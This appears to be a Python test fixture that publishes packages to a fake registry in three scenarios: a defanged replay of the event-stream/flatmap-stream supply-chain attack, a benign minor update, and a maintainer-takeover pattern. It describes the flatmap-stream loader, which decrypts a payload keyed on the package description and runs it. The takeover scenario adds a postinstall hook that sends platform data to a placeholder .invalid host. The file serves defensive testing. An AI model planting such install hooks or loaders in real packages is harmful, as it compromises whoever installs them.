"""Update scenarios published to the loopback registry: event-stream 3.3.5 → 3.3.6 (defanged), a benign
minor update and a maintainer-account takeover shape. Hosts are under .invalid; no payload works."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from tests.fakes.registry import FakeRegistry
from tests.fakes.tarballs import build_package
from tests.incidents.corpus import INCIDENTS

NOW = datetime.now(UTC)
OLD = NOW - timedelta(days=400)
DOMINIC = {"name": "dominictarr", "email": "d@example.com"}
RIGHT9 = {"name": "right9ctrl", "email": "r@example.invalid"}

STREAM_CODE = (
    "var Stream = require('stream').Stream;\n"
    "exports.through = require('through');\n"
    "exports.map = function (fn) { var s = new Stream(); s.readable = true; return s; };\n"
)


def flatmap_stream_files() -> dict[str, str | bytes]:
    """The corpus's flatmap-stream replica: it decrypts (crypto.createDecipher) a payload keyed on the
    depending package's description (process.env.npm_package_description) and runs it (module._compile)."""
    replica = next(r for r in INCIDENTS if r.id == "flatmap-stream-plain-decipher")
    return dict(replica.files)


def publish_event_stream(registry: FakeRegistry) -> None:
    registry.publish(
        "through", "2.3.8", build_package("through", "2.3.8", {"index.js": "module.exports = 1\n"}), time=OLD
    )
    deps_old = {"through": "~2.3.1"}
    registry.publish(
        "event-stream",
        "3.3.5",
        build_package("event-stream", "3.3.5", {"index.js": STREAM_CODE}, dependencies=deps_old),
        manifest={"dependencies": deps_old, "description": "construct pipes of streams of events"},
        time=OLD,
        maintainers=[DOMINIC],
    )
    registry.publish(
        "flatmap-stream",
        "0.1.1",
        build_package("flatmap-stream", "0.1.1", flatmap_stream_files()),
        time=NOW - timedelta(days=3),
        maintainers=[RIGHT9],
    )
    deps_new = {"through": "~2.3.1", "flatmap-stream": "^0.1.0"}
    registry.publish(
        "event-stream",
        "3.3.6",
        build_package(
            "event-stream",
            "3.3.6",
            {"index.js": STREAM_CODE + "exports.flatmap = require('flatmap-stream');\n"},
            dependencies=deps_new,
        ),
        manifest={"dependencies": deps_new, "description": "construct pipes of streams of events"},
        time=NOW - timedelta(days=1),
        maintainers=[DOMINIC, RIGHT9],
    )


HELPER_OLD = "module.exports = function pad(s, n) { return String(s).padStart(n); };\n"


def publish_benign(registry: FakeRegistry) -> None:
    """A minor update that adds a helper file and no capability."""
    people = [{"name": "calm-dev", "email": "c@example.com"}]
    registry.publish(
        "calm-pad",
        "1.2.0",
        build_package("calm-pad", "1.2.0", {"index.js": HELPER_OLD}),
        time=OLD,
        maintainers=people,
    )
    registry.publish(
        "calm-pad",
        "1.3.0",
        build_package(
            "calm-pad",
            "1.3.0",
            {
                "index.js": HELPER_OLD + "module.exports.right = require('./lib/right');\n",
                "lib/right.js": "module.exports = function right(s, n) { return String(s).padEnd(n); };\n",
            },
        ),
        time=OLD + timedelta(days=30),
        maintainers=people,
    )


def publish_takeover(registry: FakeRegistry) -> None:
    """A patch release with the same dependencies, a new postinstall and a network call."""
    people = [{"name": "ui-dev", "email": "u@example.com"}]
    registry.publish(
        "ui-widget",
        "2.0.1",
        build_package(
            "ui-widget", "2.0.1", {"index.js": "module.exports = function widget() { return 1; };\n"}
        ),
        time=OLD,
        maintainers=people,
    )
    scripts = {"postinstall": "node setup.js"}
    registry.publish(
        "ui-widget",
        "2.0.2",
        build_package(
            "ui-widget",
            "2.0.2",
            {
                "index.js": "module.exports = function widget() { return 1; };\n",
                "setup.js": (
                    "const https = require('https');\n"
                    "https.get('https://telemetry.example.invalid/v?p=' + encodeURIComponent(process.platform));\n"
                ),
            },
            scripts=scripts,
        ),
        manifest={"scripts": scripts},
        time=OLD + timedelta(days=10),
        maintainers=people,
    )
